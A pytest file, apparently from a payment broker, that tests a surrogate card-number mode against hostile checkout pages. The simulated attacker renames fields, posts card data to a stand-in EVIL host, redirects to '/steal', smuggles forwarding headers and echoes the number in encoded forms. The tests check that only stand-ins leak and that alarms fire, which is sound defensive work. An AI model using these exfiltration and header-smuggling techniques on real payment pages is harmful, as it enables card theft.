"""A page that wants the number in surrogate mode: it renames, redirects, reads answers, pays elsewhere. It gets stand-ins."""

from __future__ import annotations

import base64
import signal

import pytest
from aiohttp import web

from broker.client import Outcome
from broker.demo.evidence import NumberSearch
from broker.demo.shops.kinds import Kind
from tests.adversary.surrogate_stack import EVIL, Hostile

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(240),
    pytest.mark.xdist_group("adversary-surrogate"),
    pytest.mark.asyncio(loop_scope="session"),
]

POST = "([url, body]) => fetch(url, {method: 'POST', body: new URLSearchParams(body)}).then((answer) => answer.text(), String)"
SUBMIT = "(action) => { document.forms[0].action = action; void document.forms[0].requestSubmit(); }"


async def test_renamed_fields_and_other_addresses_get_the_stand_in_and_the_honest_payment_the_number(hostile: Hostile) -> None:
    paying, merchant = await hostile.surrogate.paying(page=await hostile.checkout()), hostile.merchant
    fields = {"number": paying.stand_in, "expiry": "12/30", "code": await paying.page.locator("[name=code]").input_value()}
    tries = {
        "/account": fields,
        "/pay/": fields,
        "/pay?next=1": fields,
        "/PAY": fields,
        "/pay": {**fields, "number": "", "address2": paying.stand_in},
    }
    for path, body in tries.items():
        assert "Thank you" in await paying.page.evaluate(POST, [merchant.url(path), body]), path
    assert "Thank you" in await paying.page.evaluate(POST, [merchant.url("/pay", EVIL), fields])
    assert len(merchant.bodies_with(paying.stand_in)) == len(tries) + 1, "all of it was sent, with the stand-in"
    assert not merchant.bodies_with(paying.number)
    await paying.press_pay()
    assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"], "the honest payment is swapped, once"
    assert (await paying.ended()).outcome is Outcome.SUBMITTED


async def test_a_form_that_the_page_points_elsewhere_before_the_release_pays_nobody(hostile: Hostile) -> None:
    page, merchant = await hostile.checkout(), hostile.merchant
    await page.evaluate("() => { document.forms[0].action = '/account'; document.querySelector('[name=number]').name = 'address2'; }")
    card_id = await hostile.surrogate.card()
    asked = hostile.world.ask(card_id, page.url)
    await hostile.world.approve(until="Waiting for the page to pay")
    release = await asked
    stand_in = (await page.locator("[name=address2]").input_value()).replace(" ", "")
    await page.get_by_role("button", name="Pay").click()
    await page.locator("#outcome").wait_for()
    assert merchant.bodies_with(stand_in) == ["shop.localhost/account"]
    ended = await hostile.world.ended(release)
    assert ended.outcome is Outcome.SWAP_NOT_SEEN
    assert "No registered payment endpoint" in (ended.message or "")


async def test_a_shop_that_answers_the_number_gives_its_page_the_stand_in(hostile: Hostile) -> None:
    seen = bytearray()

    async def echo(request: web.Request) -> web.Response:
        digits = "".join(c for c in str((await request.post())["number"]) if c.isdigit())
        forms = [
            digits, " ".join(digits[i : i + 4] for i in range(0, 16, 4)), "-".join(digits), digits.encode().hex(),
            base64.b64encode(digits.encode()).decode(), base64.b64encode(f"a{digits}".encode()).decode(),
            "".join(f"&#{ord(c)};" for c in digits), "".join(f"\\u{ord(c):04x}" for c in digits), digits[::-1],
        ]  # fmt: skip
        seen.extend("\n".join(forms).encode())
        headers = {"X-Number": digits, "Set-Cookie": f"card={digits}"}
        return web.Response(text=f'<p id="outcome">{"<br>".join(forms)}</p>', content_type="text/html", headers=headers)

    hostile.merchant.answer = echo
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    await paying.press_pay()
    await paying.look()
    paying.held += str(await paying.page.context.cookies())
    assert not paying.finds(paying.number)
    assert paying.number.reveal()[::-1] not in paying.held
    assert paying.finds(paying.stand_in)
    assert NumberSearch(paying.number).finds_in(bytes(seen)), "the shop did answer the number"


async def test_a_307_to_a_foreign_origin_does_not_carry_the_number(hostile: Hostile) -> None:
    merchant = hostile.merchant

    async def onwards(request: web.Request) -> web.Response:
        if request.host.startswith(EVIL):
            return web.Response(text="<main>Mine</main>", content_type="text/html")
        return web.Response(status=307, headers={"Location": merchant.url("/steal", EVIL)})

    merchant.answer = onwards
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    await paying.page.get_by_role("button", name="Pay").click(no_wait_after=True)
    assert (await paying.ended()).outcome is Outcome.MAY_HAVE_BEEN_CHARGED
    assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"]
    # The leg of a release that has just ended is let go or failed: either way it holds the stand-in.
    assert set(merchant.bodies_with(paying.stand_in)) <= {f"{EVIL}/steal"}


async def test_headers_that_a_page_or_an_agent_sets_do_not_change_where_a_request_goes_or_ends(hostile: Hostile) -> None:
    paying, merchant = await hostile.surrogate.paying(page=await hostile.checkout()), hostile.merchant
    session = await paying.page.context.new_cdp_session(paying.page)
    smuggled = {
        "X-HTTP-Method-Override": "GET", "X-Forwarded-Host": EVIL, "X-Original-URL": "/account", "Forwarded": f"host={EVIL}",
        "X-Harmless": "1",
    }  # fmt: skip
    await session.send("Network.enable")
    await session.send("Network.setExtraHTTPHeaders", {"headers": smuggled})
    await paying.page.evaluate(POST, [merchant.url("/elsewhere"), {"a": "1"}])
    await paying.press_pay()
    plain, paid = merchant.got
    assert {name.lower() for name, _ in plain.headers} >= {name.lower() for name in smuggled}, "a request that is not swapped carries them"
    assert not {name.lower() for name, _ in paid.headers} & {name.lower() for name in smuggled}
    assert merchant.bodies_with(paying.number) == ["shop.localhost/pay"]


async def test_an_egress_killed_in_the_middle_is_told_to_the_agent_and_the_person(hostile: Hostile) -> None:
    world = hostile.world

    async def never(request: web.Request) -> web.Response:
        await world.stage.children["egress"].stop(signal.SIGKILL)
        raise web.HTTPServiceUnavailable

    hostile.merchant.answer = never
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    async with world.person.popup() as popup:
        await paying.page.evaluate(SUBMIT, "/pay")
        text = await popup.wait_for_text("May have been charged")
    ended = await paying.ended()
    await hostile.surrogate.start()
    assert ended.outcome is Outcome.MAY_HAVE_BEEN_CHARGED
    assert "before" in (ended.next_step or "")
    assert "may have been charged" in text.lower()
    assert hostile.merchant.bodies_with(paying.number) == ["shop.localhost/pay"], "and so it may"


async def test_a_payment_that_is_not_swapped_is_declined_raises_an_alarm_and_is_told_to_the_agent(hostile: Hostile) -> None:
    paying = await hostile.surrogate.paying()
    await paying.page.evaluate("() => { document.forms[0].action += '?from=newsletter'; }")
    assert "surrogate_presented" in await paying.press_pay()
    ended = await paying.ended()
    assert ended.outcome is Outcome.SWAP_NOT_SEEN
    alarms = [event for event in hostile.world.issuer_events("alarm:surrogate:presented") if event.facts["release"] == paying.release.id]
    assert [event.facts["card"] for event in alarms] == [paying.card_id]
    row = await paying.transaction()
    assert row is None or row["status"] == "declined"


async def test_a_stand_in_that_leaked_is_declined_and_raises_an_alarm(hostile: Hostile) -> None:
    world = hostile.world
    elsewhere = await world.open(kind=Kind.FIRST_PARTY)  # before: what a tab opens while it pays is paused, too
    paying = await hostile.surrogate.paying(page=await hostile.checkout())
    values = {name: await paying.page.locator(f"[name={name}]").input_value() for name in ("number", "expiry", "code", "name")}
    for name, value in values.items():
        await elsewhere.locator(f"[name={name}]").fill(value)
    await elsewhere.get_by_role("button", name="Pay").click()
    await elsewhere.locator("#outcome").wait_for()
    assert "surrogate_presented" in await elsewhere.inner_text("main")
    [alarm] = [event for event in world.issuer_events("alarm:surrogate:presented") if event.facts["release"] == paying.release.id]
    assert alarm.facts["card"] == paying.card_id
    await paying.press_pay()
    assert (await paying.ended()).outcome is Outcome.SUBMITTED, "the release it was made for still pays"
